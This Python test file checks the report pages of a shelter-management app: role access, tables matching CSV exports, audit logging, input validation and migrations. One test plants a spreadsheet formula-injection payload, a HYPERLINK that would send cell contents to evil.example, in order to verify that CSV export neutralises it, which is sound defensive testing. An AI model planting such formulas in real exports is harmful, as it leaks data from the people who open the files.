"""Report pages: access by role, table under the chart, CSV round-trip, bad input, migrations."""
from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from shelter.models import AuditEvent, Role
from shelter.services import reports as svc
from tests.shelter import reports_fixture as fx
from tests.shelter.conftest import login

RANGE = {"city": "Bergen", "start": "2026-03-01", "end": "2026-03-03"}


class Tables(HTMLParser):
    """Collects the text of every cell of each <table data-table=KEY>; a night shown as a
    date (<time datetime="2026-03-01">) counts as its ISO date, as the CSV writes it."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.key: str | None = None
        self.cell: list[str] | None = None
        self.in_time = False

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        a = dict(attrs)
        if tag == "table" and "data-table" in a:
            self.key = a["data-table"]
            self.tables[self.key] = []
        elif self.key and tag == "tr":
            self.tables[self.key].append([])
        elif self.key and tag in ("td", "th"):
            self.cell = []
        elif self.cell is not None and tag == "time":
            self.cell.append(a["datetime"])
            self.in_time = True

    def handle_endtag(self, tag):  # type: ignore[no-untyped-def]
        if tag == "table":
            self.key = None
        elif tag == "time":
            self.in_time = False
        elif self.key and tag in ("td", "th") and self.cell is not None:
            self.tables[self.key][-1].append("".join(self.cell).strip())
            self.cell = None

    def handle_data(self, data):  # type: ignore[no-untyped-def]
        if self.cell is not None and not self.in_time:
            self.cell.append(data)


@pytest.fixture()
def manager(client, db, make_site, make_user):
    fx.build(db, make_site)
    user = make_user(Role.MANAGER)
    login(client, user)
    return user


@pytest.mark.parametrize("slug", list(svc.REPORTS))
def test_each_page_has_chart_and_table_matching_its_csv(client, manager, slug):
    page = client.get(f"/reports/{slug}", query_string=RANGE)
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "<svg" in html and 'class="mark"' in html and "<desc" in html
    parsed = Tables()
    parsed.feed(html)
    assert parsed.tables, "a table under the chart"
    for key, rows in parsed.tables.items():
        export = client.get(f"/reports/{slug}.csv", query_string={**RANGE, "table": key})
        assert export.status_code == 200 and export.mimetype == "text/csv"
        assert list(csv.reader(io.StringIO(export.data.decode("utf-8-sig")))) == rows


def test_turnaway_csv_figures_are_the_hand_counts(client, manager):
    export = client.get("/reports/turnaways.csv", query_string={**RANGE, "table": "nights"})
    rows = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))
    assert [(r["night"], int(r["turned away"]), int(r["capacity"])) for r in rows] == [
        ("2026-03-01", 2, 1), ("2026-03-02", 1, 0), ("2026-03-03", 1, 1)]


def test_named_repeat_list_is_audited(client, manager, db):
    html = client.get("/reports/turnaways", query_string=RANGE).get_data(as_text=True)
    assert "Carl" in html
    events = db.session.scalars(select(AuditEvent).where(
        AuditEvent.user_id == manager.id, AuditEvent.detail == "report: repeat turn-aways")).all()
    assert len(events) == 1


@pytest.mark.parametrize("role", [Role.INTAKE, Role.PARTNER])
def test_other_roles_may_not_see_reports(client, db, make_user, make_org, role):
    user = make_user(role, organisation=make_org("NAV x") if role is Role.PARTNER else None)
    login(client, user)
    assert client.get("/reports/occupancy").status_code == 403
    assert client.get("/reports/turnaways.csv").status_code == 403


def test_bad_input_is_a_422_beside_the_field(client, manager):
    page = client.get("/reports/occupancy", query_string={**RANGE, "start": "2026-03-05"})
    assert page.status_code == 422
    assert "on or after the first night" in page.get_data(as_text=True)
    assert client.get("/reports/occupancy", query_string={**RANGE, "city": "Oslo"}).status_code == 422
    assert client.get("/reports/occupancy", query_string={**RANGE, "end": "soon"}).status_code == 422
    assert client.get("/reports/nope").status_code == 404
    assert client.get("/reports/occupancy.csv", query_string={**RANGE, "table": "x"}).status_code == 404


def test_default_range_page_renders(client, manager):
    assert client.get("/reports/occupancy").status_code == 200
    assert client.get("/reports/").status_code == 200


def test_migrations_agree_with_models(app, db):
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext

    from shelter.models import Base
    import shelter.models.reporting  # noqa: F401  (registers the report tables)

    conn = db.session.connection()
    diff = compare_metadata(MigrationContext.configure(conn), Base.metadata)
    assert diff == []


def test_csv_export_neutralises_formulas_in_names(client, manager, db):
    from shelter.models import Person

    carl = db.session.scalar(select(Person).where(Person.name == "Carl"))
    carl.name = '=HYPERLINK("http://evil.example/?d="&A1,"Carl")'
    carl.alias = None
    db.session.flush()
    export = client.get("/reports/turnaways.csv", query_string={**RANGE, "table": "repeat"})
    rows = list(csv.reader(io.StringIO(export.data.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert "'" + carl.name in names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start):
    table = svc.Table("t", "T", [start + "col", "n"], [[start + "1+1", -3]])
    rows = list(csv.reader(io.StringIO(svc.to_csv(table))))
    assert rows == [["'" + start + "col", "n"], ["'" + start + "1+1", "-3"]]
